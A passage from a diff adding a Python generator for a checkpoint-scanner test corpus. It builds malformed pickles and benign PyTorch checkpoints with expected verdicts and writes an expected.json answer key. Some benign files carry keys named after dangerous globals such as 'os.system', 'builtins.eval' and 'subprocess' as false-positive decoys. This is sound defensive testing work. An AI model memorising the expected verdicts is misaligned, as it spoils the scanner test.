+        "peers §2d truncated data", alt=[{"verdict": "malformed", "rule": "zip_libzip_rejected"},
+                                          {"verdict": "malformed", "rule": "zip_bad_eocd"}])
+    pkl = pickle.dumps({"epoch": 3, "names": ["a", "b", "c"], "lr": 0.5}, protocol=2)
+    add("truncated_pickle.pkl", pkl[: len(pkl) - 9], "malformed", "pickle_truncated", "benign pickle without its last 9 bytes",
+        "peers §2d truncated data")
+    add("truncated_mid_opcode.pkl", PROTO2 + b"X" + u32(10) + b"abc", "malformed", "pickle_truncated",
+        "stream ends inside a BINUNICODE operand", "peers §2d", alt=[{"verdict": "malformed", "rule": L}])
+    add("empty_file.pt", b"", "malformed", "not_a_checkpoint", "empty file", "peers §2d non-checkpoint input")
+    add("png_as_pt.pt", b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0) + b"\x00" * 4,
+        "malformed", "not_a_checkpoint", "a PNG header named .pt", "modelscan PR #30")
+    add("text_file.pth", b"this is a text file, not a checkpoint\n" * 8, "malformed", "not_a_checkpoint",
+        "plain text named .pth", "pytorch/pytorch#120167",
+        alt=[{"verdict": "malformed", "rule": "pickle_no_mark"}])  # text is a (broken) protocol-0 pickle
+    add("only_proto.pkl", PROTO2, "malformed", "pickle_truncated", "PROTO 2 and nothing else", "peers §2d",
+        alt=[{"verdict": "malformed", "rule": "not_a_checkpoint"}])
+    # CPython's two unpicklers and torch's weights_only all return 1 here: a warning, not an error.
+    add("pending_mark_at_stop.pkl", PROTO2 + MARK + integer(1) + STOP, "safe", None,
+        "STOP with an unclosed MARK", "pth-format §6", warnings=["stack_not_empty_at_stop"],
+        alt=[{"verdict": "malformed", "rule": "pickle_pending_mark"}])
+
+
+def gen_benign():
+    """Files that look suspicious but are fine: expected safe (warnings allowed)."""
+    def save(name, obj, tech, source="benign", check=True, warnings=None, **kw):
+        data = torch_bytes(obj, **kw)
+        if check:
+            torch_loads_weights_only(data)
+        else:  # weights_only refuses protocol 4/5 opcodes: check the globals statically instead
+            for p in zip_pickles(data):
+                bad = [g for g in static_globals(p) if not allowed_global(g)]
+                assert not bad, (name, bad)
+        add(name, data, "safe", None, tech, source, warnings=warnings)
+
+    torch.manual_seed(10)
+    sd = base_state_dict(10)
+    save("benign_proto4.pt", sd, "torch.save with pickle_protocol=4 (FRAME/MEMOIZE/STACK_GLOBAL)", check=False,
+         warnings=["torch_refuses_opcode"], pickle_protocol=4)
+    save("benign_proto5.pt", sd, "torch.save with pickle_protocol=5", check=False, warnings=["torch_refuses_opcode"], pickle_protocol=5)
+    nested = torch.ones(2)
+    for _ in range(200):
+        nested = [nested]
+    save("benign_deep_200.pt", {"deep": nested}, "lists nested 200 deep around a tensor")
+    m = torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.BatchNorm1d(2))
+    save("benign_module_prefix.pth", OrderedDict(("module." + k, v) for k, v in m.state_dict().items()),
+         "state_dict with 'module.' keys (DataParallel)")
+    save("benign_metadata.pth", torch.nn.Sequential(torch.nn.Conv1d(1, 2, 3), torch.nn.LayerNorm(2)).state_dict(),
+         "OrderedDict state_dict with _metadata (BUILD on OrderedDict)")
+    save("benign_bigints.pt", {"step": 2**62, "neg": -2**63, "huge": 2**2000, "t": torch.zeros(1)},
+         "big-int values (LONG1 up to 251 bytes)")
+    save("benign_empty.pt", {"d": {}, "l": [], "t": (), "od": OrderedDict(), "e": torch.empty(0), "s": set(),
+                             "z": torch.zeros(0, 3)}, "empty containers and empty tensors")
+    save("benign_unicode_keys.pt", {"ключ": torch.ones(1), "🔥.weight": torch.ones(2), "a\u0000b": 1, "": 2,
+                                    "os.system": 3, "__reduce__": "builtins.eval"},
+         "unicode / NUL / empty keys and strings that name dangerous globals")
+    opt_model = torch.nn.Linear(3, 2)
+    opt = torch.optim.Adam(opt_model.parameters())
+    opt_model(torch.ones(1, 3)).sum().backward()
+    opt.step()
+    save("benign_training_ckpt.pth", {"model": opt_model.state_dict(), "optimizer": opt.state_dict(), "epoch": 3,
+                                      "lr": 1e-3, "best": float("inf")}, "training checkpoint with Adam state")
+    base = torch.arange(24, dtype=torch.float32).reshape(4, 6)
+    save("benign_shared_views.pt", {"a": base, "t": base.t(), "s": base[1:, ::2], "again": base, "flat": base.view(-1)},
+         "one storage shared by transposed/strided/offset views")
+    save("benign_python_values.pt", {"b": b"\x00\xffbytes", "ba": bytearray(b"xy"), "s": {1, 2}, "c": complex(1, -2),
+                                     "cnt": Counter("aab"), "size": torch.Size([2, 3]), "dev": torch.device("cpu"),
+                                     "dt": torch.float16, "nan": float("nan")},
+         "bytes/bytearray/set/complex/Counter/Size/device/dtype values (allowed globals)")
+    save("benign_dtypes_v3.pt", {"f8": torch.zeros(3, dtype=torch.float8_e4m3fn), "u16": torch.zeros(2, dtype=torch.uint16),
+                                 "bf": torch.ones(2, dtype=torch.bfloat16), "cx": torch.ones(2, dtype=torch.complex64),
+                                 "b": torch.tensor([True, False])}, "new dtypes through _rebuild_tensor_v3")
+    p = torch.nn.Parameter(torch.ones(2))
+    t = torch.ones(3)
+    t.note = "python attribute"
+    save("benign_param_and_attrs.pt", {"p": p, "t": t}, "Parameter and tensor with Python attributes (_rebuild_from_type_v2)")
+    shared = torch.ones(1)
+    save("benign_memo_heavy.pt", {"refs": [shared] * 2000, "keys": {f"k{i}": "same-string-value" for i in range(300)}},
+         "memo-heavy: one tensor referenced 2000 times, LONG_BINPUT/LONG_BINGET indices > 255")
+    save("benign_pickle_alias.pt", {"pickle": torch.ones(1), "torch.load": "eval", "subprocess": ["Popen"]},
+         "keys named like gadgets")
+
+    # Hand-made but torch-verified pickles: allowed globals in odd orders, memoised globals.
+    f4 = struct.pack("<4f", 1, 2, 3, 4)
+
+    def tens(first):
+        od = glob("collections", "OrderedDict") + put(50) if first else get(50)
+        v2 = glob("torch._utils", "_rebuild_tensor_v2") + put(51) if first else get(51)
+        pid = MARK + uni("storage") + get(52) + uni("0") + uni("cpu") + integer(4) + TUPLE
+        return (v2 + MARK + pid + BINPERSID + integer(0) + enc((4,)) + enc((1,)) + NEWFALSE + od + EMPTY_TUPLE
+                + REDUCE + TUPLE + REDUCE)
+    pkl = (PROTO2 + EMPTY_DICT + put(0) + MARK
+           + uni("dtype") + glob("torch", "float16") + uni("cls") + glob("torch", "FloatStorage") + put(52)
+           + uni("b") + tens(True) + uni("a") + tens(False) + uni("c") + tens(False) + SETITEMS + STOP)
+    data = tensor_zip(pkl, f4)
+    torch_loads_weights_only(data)
+    add("benign_odd_global_order.pt", data, "safe", None,
+        "storage class first as a plain value, rebuild function later, all reused through BINGET",
+        "benign (torch-verified)")
+    pkl = (PROTO2 + EMPTY_DICT + put(0) + MARK + uni("x") + glob("torch", "Size") + enc(((2, 2),)) + REDUCE
+           + uni("y") + glob("collections", "Counter") + EMPTY_TUPLE + REDUCE
+           + uni("z") + glob("torch", "device") + enc(("cpu",)) + REDUCE
+           + uni("s") + glob("torch", "FloatStorage") + put(52)
+           + uni("w") + tens(True) + SETITEMS + STOP)
+    data = tensor_zip(pkl, f4, folder="weird folder.name-v1")
+    torch_loads_weights_only(data)
+    add("benign_odd_folder.pt", data, "safe", None, "top folder with spaces and dots; Size/Counter/device values",
+        "benign (torch-verified)")
+    data = build_zip([Rec(r.name, r.data) for r in records_of(torch_bytes(base_state_dict(12)))][:-1]
+                     + [Rec("archive/notes.txt", b"trained on CIFAR-10\n"),
+                        Rec("archive/.data/serialization_id", b"0" * 40)])
+    torch_loads_weights_only(data)
+    add("benign_extra_text_record.pt", data, "safe", None, "an extra plain-text record (reported, not a pickle)",
+        "policy.md Containers", warnings=["extra_record"])
+    data = build_zip([Rec(r.name, r.data, method=8) for r in records_of(torch_bytes(base_state_dict(11)))])
+    torch_loads_weights_only(data)
+    add("benign_deflated_records.pt", data, "safe", None, "every record re-zipped with deflate (ratio < 250)",
+        "pth-format §1.4")
+    bare = pickle.dumps({"epoch": 7, "names": ["a", "b"], "lr": 0.1, "flags": (True, None)}, protocol=2)
+    add("benign_bare_pickle.pkl", bare, "safe", None, "bare protocol-2 pickle of plain values", "benign")
+    add("benign_proto0_values.pkl", pickle.dumps({"a": [1, 2.5, "x"], "b": None}, protocol=0), "safe", None,
+        "protocol 0 text pickle of plain values (torch would refuse the opcodes: warnings only)", "benign",
+        warnings=["torch_refuses_opcode"])
+    add("benign_stack_left_at_stop.pkl", PROTO2 + integer(1) + integer(2) + STOP, "safe", None,
+        "a value left under the result at STOP (CPython ignores it)", "benign", warnings=["stack_not_empty_at_stop"])
+
+
+def main():
+    if os.path.isdir(OUT):
+        shutil.rmtree(OUT)
+    os.makedirs(OUT)
+    gen_gadgets()
+    gen_vm()
+    gen_containers()
+    gen_resources()
+    gen_benign()
+    total = sum(os.path.getsize(os.path.join(OUT, c["file"])) for c in CASES)
+    with open(os.path.join(HERE, "expected.json"), "w") as f:
+        json.dump(CASES, f, indent=1, ensure_ascii=False)
+        f.write("\n")
+    n_safe = sum(c["verdict"] == "safe" for c in CASES)
+    print(f"{len(CASES)} files ({len(CASES) - n_safe} hostile, {n_safe} benign), {total} bytes")
+    assert total < 2 << 20, "corpus over 2 MB"
+
+
+if __name__ == "__main__":
+    main()
